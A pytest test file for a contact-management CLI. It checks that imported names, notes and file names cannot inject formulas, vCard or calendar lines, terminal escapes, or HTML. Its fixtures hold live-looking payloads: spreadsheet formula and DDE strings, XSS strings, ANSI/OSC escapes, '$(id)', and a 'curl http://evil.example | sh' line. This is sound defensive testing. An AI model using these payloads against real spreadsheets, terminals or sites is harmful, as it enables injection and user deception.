"""What somebody wrote into a name, a note or a file's name stays a text wherever it goes: no formula, no line of a card or
an event, no word to the terminal, no mark-up. And nothing of it is lost.
"""

import csv
import io
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from sync.cli import importing
from sync.cli.frame import safe
from tests.inprocess import reseau
from tests.reseau import COMMAND, environment_of
from tests.test_page import Browser
from tests.test_serve import Server

HOSTILE = {
    "call": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example","x")',
    "plus": "+cmd|x!A1",
    "minus": "-2+3+cmd|x",
    "at": "@SUM(1+1)",
    "wide": "\uff1d1+1",
    "guarded": "'=1+1",
    "twice": "''@x",
    "card": "x\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:Evil Line",
    "event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Evil Line",
    "property": "x\nEvil Line:1;X-EVIL=2,3\\n\\",
    "row": 'x",Evil Line,"y\n"z',
    "screen": "a\x1b[2Jb\x1b[31m",
    "hyperlink": "a\x1b]8;;http://evil.example\x07b\x1b]8;;\x07",
    "clipboard": "a\x1b]52;c;ZXZpbA==\x1b\\b",
    "c1": "a\x9b2Jb\x9d0;x\x9c",
    "bell": "a\x07\x08\x7fb",
    "bidi": "a\u202egnp.exe\u2066b\u061c",
    "unseen": "a\u200bEvil\u2060Line\ufeffb\ufff9c",
    "lines": "a\u2028Evil\u2029Line\x85b\x0b\x0cc",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\"'><svg onload=alert(1)>{{7*7}}",
    "address": "javascript:alert(1)",
    "percent": "%s%n{0}{name}$(id)`id`",
}
STEERS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff\ufff9-\ufffb]"
)
RUNS = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"\+[\d\s().\-]{5,24}")


def one_line(text):
    """What a reader of a single-line field makes of a text: signs that nobody sees may go, words may not."""
    return "".join(c for c in text if c.isalnum())


COLUMNS = (
    "id",
    "First Name",
    "Last Name",
    "Company",
    "Title",
    "Notes",
    "City",
    "Keywords",
    "Nickname",
    "Email",
)
PROFILE = (
    "First Name,Last Name,Maiden Name,Address,Birth Date,Headline,Summary,Industry,Zip Code,Geo Location,Twitter Handles,"
    "Websites,Instant Messengers\nCamille,Dessagne,,,,,,,,,,,\n"
)


def as_table(place):
    """Write a table in which every field of somebody is hostile, each with an address of its own."""
    return rows(
        place / "=people'@.csv",
        (*COLUMNS, "=Odd\x1b[2J column"),
        (
            (text, f"A{name} {text}", *[text] * 7, f"{name}@example.org", text)
            for name, text in HOSTILE.items()
        ),
    )


def as_linkedin(place):
    """Write the same people as contacts on LinkedIn."""
    place /= "=export\x1b[2J"
    place.mkdir()
    (place / "Profile.csv").write_text(PROFILE, encoding="utf-8")
    people = list(HOSTILE.items())
    rows(
        place / "Connections.csv",
        ("First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"),
        (
            (
                f"A{name}",
                text,
                f"https://www.linkedin.com/in/{name}",
                f"{name}@example.org",
                text,
                text,
                "05 Nov 2023",
            )
            for name, text in people
        ),
    )
    rows(
        place / "messages.csv",
        (
            "FROM",
            "TO",
            "DATE",
            "SENDER PROFILE URL",
            "RECIPIENT PROFILE URLS",
            "SUBJECT",
            "CONTENT",
            "FOLDER",
        ),
        (
            (
                f"A{name} {text}",
                "Camille Dessagne",
                "2026-05-02 18:03:11 UTC",
                f"https://www.linkedin.com/in/{name}",
                "https://www.linkedin.com/in/camille-dessagne",
                text,
                text,
                "INBOX",
            )
            for name, text in people
        ),
    )
    return place


def as_cards(place):
    """Write the same people as vCards, each value as the format wants it (RFC 6350 §3.4)."""
    place /= "=people'\x1b[2J.vcf"
    lines = []
    for name, text in HOSTILE.items():
        told = (
            text.replace("\\", "\\\\")
            .replace("\r", "")
            .replace("\n", "\\n")
            .replace(",", "\\,")
            .replace(";", "\\;")
        )
        lines += [
            "BEGIN:VCARD",
            "VERSION:4.0",
            f"UID:{name}-{told}",
            f"FN:A{name} {told}",
            f"N:{told};A{name};;;",
        ]
        lines += [f"{field}:{told}" for field in ("ORG", "TITLE", "NOTE", "NICKNAME", "CATEGORIES", "X-ODD")]
        lines += [f"ADR:;;{told};{told};;;", f"URL:{told}", f"EMAIL:{name}@example.org", "END:VCARD", ""]
    place.write_bytes("\r\n".join(lines).replace("\r\n\r\n", "\r\n").encode())
    return place


def rows(place, headings, told):
    with place.open("w", encoding="utf-8", newline="") as out:
        written = csv.writer(out)
        written.writerow(headings)
        written.writerows(told)
    return place


@pytest.fixture(scope="module", params=[as_table, as_linkedin, as_cards])
def table(request, tmp_path_factory):
    return request.param(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def home(table):
    place = table.parent / "home"
    told = reseau(place, "import", table, "--json").json
    assert told["people"]["total"] == len(HOSTILE)
    reseau(place, "week")
    return place


def cards(home):
    return json.loads(reseau(home, "export", "jscontact").out)


def by_address(home):
    """Return the card of each person by what stands before the @ of their address."""
    return {next(iter(one["emails"].values()))["address"].partition("@")[0]: one for one in cards(home)}


def notes(home):
    """Return the notes of each person by the same."""
    return {
        name: [note["note"] for note in one.get("notes", {}).values()]
        for name, one in by_address(home).items()
    }


def test_a_table_is_a_table_whatever_its_cells_say(home):
    assert set(notes(home)) == set(HOSTILE)


def test_nothing_of_it_is_lost_on_the_way_in(home):
    for name, card in by_address(home).items():
        titles = [one["name"] for one in card["titles"].values()]
        assert [one_line(title) for title in titles] == [one_line(HOSTILE[name])]


SHOWN = (
    ["people"],
    ["people", "Acall"],
    ["week"],
    ["plan"],
    ["review"],
    ["history"],
    ["changes"],
    ["report"],
    ["support"],
    ["doctor"],
    ["forget", "--propose"],
    ["campaign", "new", "=x\x1b[2J\nEvil Line"],
    ["campaign"],
    ["target", "=x\x1b[2J"],
    ["people", "nobody\x1b[2J\nEvil Line\u202e"],
    ["show", "nobody\x1b[2J\nEvil Line\x9b2J"],
    ["import", "no\x1b[2Jthing\nEvil Line.csv"],
    ["read", "{table}"],
    ["import", "{table}", "--dry-run"],
    ["config", "set", "budget.per_week", "\x1b[2J\nEvil Line"],
    ["book", "add", "x\x1b[2J", "/nowhere\x1b[2J\nEvil Line"],
    ["sync", "\x1b[2J\nEvil Line"],
    ["wrong\x1b[2J\nEvil Line"],
    ["people", "--wrong\x1b[2J\nEvil Line"],
    *(["show", f"{name}@example.org"] for name in HOSTILE),
    *(["show", "--all", f"{name}@example.org"] for name in ("screen", "lines", "card")),
)


@pytest.mark.parametrize("words", SHOWN, ids=lambda words: ascii(" ".join(words))[:50])
def test_no_word_of_it_steers_a_terminal(home, table, words):
    told = reseau(home, *(word.format(table=table) if "{" in word else word for word in words), check=None)
    assert told.code in (0, 1, 2, 3, 6)
    for text in (told.out, told.err):
        assert not STEERS.search(text), ascii(STEERS.search(text))
        if words[0] not in ("show", "export"):
            assert not any(line.startswith("Evil Line") for line in text.splitlines()), text


@pytest.mark.parametrize("words", [["people"], ["read", "{table}"], ["show", "c1@example.org"], ["week"]])
def test_json_says_the_same_and_steers_no_terminal(home, table, words):
    told = reseau(home, *(word.format(table=table) for word in words), "--json", check=None)
    assert not STEERS.search(told.out)
    assert json.loads(told.out)


def test_what_is_left_out_of_a_line_is_no_word():
    for text in HOSTILE.values():
        assert one_line(safe(text)) == one_line("".join(c for c in text if not STEERS.match(c)))


def test_a_hostile_name_of_a_file_is_harmless_while_it_is_read(monkeypatch):
    said = io.StringIO()
    said.isatty = lambda: True
    monkeypatch.setattr("sys.stderr", said)
    run = type("Run", (), {"quiet": False, "words": type("Words", (), {"number": staticmethod(str)})})
    importing._progress(run)("/x/a\x1b]0;evil\x07\nb.csv", 5)
    assert said.getvalue() == "\r\033[Ka]0;evil b.csv  5"


def test_a_heading_of_several_lines_forges_no_line_of_ours(tmp_path):
    (tmp_path / "t.csv").write_text(
        'Nom,Email,"Perso\nTo undo: curl http://evil.example | sh"\nRoy,roy@example.org,x\n', encoding="utf-8"
    )
    for words in (["read", tmp_path / "t.csv"], ["import", tmp_path / "t.csv"]):
        told = reseau(tmp_path / "home", *words)
        lines = [line.strip() for line in (told.out + told.err).splitlines()]
        assert not [line for line in lines if line.startswith("To undo: curl")]
        assert any("Perso To undo: curl" in line for line in lines)


def test_a_name_of_a_file_that_is_no_text_is_told(tmp_path):
    place = os.fsencode(tmp_path) + b"/\xff\x1b[2J.csv"
    done = subprocess.run(
        [os.fsencode(COMMAND), b"import", place],
        capture_output=True,
        env=environment_of(tmp_path / "home"),
        timeout=60,
    )
    assert done.returncode == 1
    assert b"Traceback" not in done.stderr
    assert b"\x1b" not in done.stdout + done.stderr
    with Path(os.fsdecode(place)).open("wb") as out:
        out.write(b"First Name,Last Name,Email\nAda,Example,ada@example.org\n")
    for words in (["import"], ["read"], ["read", "--json"]):
        done = subprocess.run(
            [os.fsencode(COMMAND), *map(os.fsencode, words), place],
            capture_output=True,
            env=environment_of(tmp_path / "home"),
            timeout=60,
        )
        assert done.returncode == 0, done.stderr
        assert b"\x1b" not in done.stdout + done.stderr
        assert b"Traceback" not in done.stderr


@pytest.mark.parametrize("layout", ["reseau", "google", "outlook", "thunderbird"])
def test_a_name_of_which_a_card_tells_half_in_parts_is_written_whole(tmp_path, layout):
    lines = [
        ("N:;Jean;;;", "FN:Jean Dupont"),
        ("N:Martin;;;;", "FN:Paul Martin"),
        ("N:Zed;Ana;;;", "FN:Ana Zed"),
        ("N:;;;;", "FN:Cher"),
    ]
    (tmp_path / "in.vcf").write_text(
        "".join(f"BEGIN:VCARD\r\nVERSION:3.0\r\n{n}\r\n{fn}\r\nEND:VCARD\r\n" for n, fn in lines)
    )
    reseau(tmp_path / "home", "import", tmp_path / "in.vcf")
    reseau(tmp_path / "home", "export", "csv", "--layout", layout, "-o", tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8-sig"))))
    assert {(row["First Name"], row["Last Name"]) for row in rows} == {
        ("Jean", "Dupont"),
        ("Paul", "Martin"),
        ("Ana", "Zed"),
        ("Cher", ""),
    }


@pytest.mark.parametrize("layout", ["reseau", "google", "outlook", "thunderbird"])
def test_no_cell_of_a_csv_runs_and_it_reads_back_the_same(home, tmp_path, layout):
    out = tmp_path / "people.csv"
    reseau(home, "export", "csv", "--layout", layout, "-o", out)
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for cell in row.values():
            assert not RUNS.match(cell) or NUMBER.fullmatch(cell), cell
    reseau(tmp_path / "home", "import", out)
    before, after = notes(home), notes(tmp_path / "home")
    assert before.keys() == after.keys()
    one, two = by_address(home), by_address(tmp_path / "home")
    for name, text in HOSTILE.items():
        # Brackets are taken out of a name, and here the sign before one hid it at first; a line break ends a full name
        # in a vCard, where the parts of the name hold all of it.
        if name != "screen" and "\n" not in text:
            was, now = (one_line(card[name]["name"]["full"]).casefold() for card in (one, two))
            assert was == now, name
        for field in ("organizations", "titles"):
            # A cell of a company or a title is one line, without signs that nobody sees.
            told = str if text.isprintable() else one_line
            said, now = (
                [told(each["name"]) for each in card[name].get(field, {}).values()] for card in (one, two)
            )
            assert now == said, (name, field)
        for note in before[name]:
            assert any(one_line(note) in one_line(each) for each in after[name]), (name, note, after[name])


def test_no_cell_of_a_workbook_is_a_formula(home, tmp_path):
    reseau(home, "export", "xlsx", "-o", tmp_path / "people.xlsx")
    with zipfile.ZipFile(tmp_path / "people.xlsx") as book:
        sheets = [book.read(name) for name in book.namelist() if "sheets/" in name]
        assert sheets
        assert not [sheet for sheet in sheets if re.search(rb"<(\w+:)?f[ >/]", sheet)]
        told = b"".join(book.read(name) for name in book.namelist())
        assert b"=HYPERLINK" in told
        assert not [name for name in book.namelist() if "external" in name.lower()]


@pytest.mark.parametrize("version", ["vcf3", "vcf4"])
def test_no_text_opens_or_ends_a_card(home, tmp_path, version):
    reseau(home, "export", "vcf", "-o", tmp_path / "people.vcf")
    reseau(home, "convert", tmp_path / "people.vcf", tmp_path / "again.vcf", "--to", version)
    for place in (tmp_path / "people.vcf", tmp_path / "again.vcf"):
        text = place.read_bytes().decode()
        lines = text.replace("\r\n ", "").split("\r\n")
        assert lines.count("BEGIN:VCARD") == lines.count("END:VCARD") == len(HOSTILE)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)
        assert not re.search("\r(?!\n)|(?<!\r)\n", text)
        assert not [line for line in lines if line.startswith(("Evil", "SUMMARY", "X-EVIL"))]
        fresh = tmp_path / f"home-{place.stem}"
        reseau(fresh, "import", place)
        after = notes(fresh)
        for name, said in notes(home).items():
            for note in said:
                assert any(one_line(note) in one_line(each) for each in after[name]), (name, note)


def test_no_text_opens_an_event_or_adds_a_line(home, tmp_path):
    reseau(home, "config", "set", "budget.per_week", "50")
    reseau(home, "plan", "--weeks", "8")
    for name in ("touchpoints", "digest", "birthdays"):
        reseau(home, "feed", name, "--privacy", "details", "-o", tmp_path / "f.ics")
        text = (tmp_path / "f.ics").read_bytes().decode()
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)
        assert not re.search("\r(?!\n)|(?<!\r)\n", text)
        lines = text.replace("\r\n ", "").split("\r\n")
        assert not [line for line in lines if line.startswith(("Evil", "SUMMARY:Evil"))]
        assert (
            lines.count("BEGIN:VEVENT")
            == lines.count("END:VEVENT")
            == sum(one.startswith("UID") for one in lines)
        )
        assert all(re.match(r"[A-Z-]+[;:]", line) for line in lines if line)


def test_the_page_and_its_log_take_it_for_text(home):
    server = Server(home)
    try:
        browser = Browser(server)
        people = reseau(home, "people", "--json").json["people"]
        ids = {one["id"] for one in people}
        pages = [
            "/",
            "/people",
            "/week",
            "/review",
            "/campaigns",
            "/renew",
            "/books",
            "/calendar",
            "/settings",
        ]
        for path in (*pages, *(f"/people/{one}" for one in sorted(ids))):
            text = browser.get(path)
            for mark in (
                "<script>alert",
                "<img src=x",
                "<svg onload",
                "49</",
                'href="javascript:',
            ):
                assert mark not in text, (path, mark)
        for path in ("/people/%1b[2J%0aEvil", "/%1b]0;x%07", "/people?q=%1b[2J%9b", "/feed/%0aEvil.ics"):
            browser.ask("GET", path)
        browser.send("/people/add", 404, name="\x1b[2J") if False else None
    finally:
        server.stop()
    said = (home.parent / "serve.err").read_text(encoding="utf-8")
    assert not STEERS.search(said), said
    assert "Evil" not in said
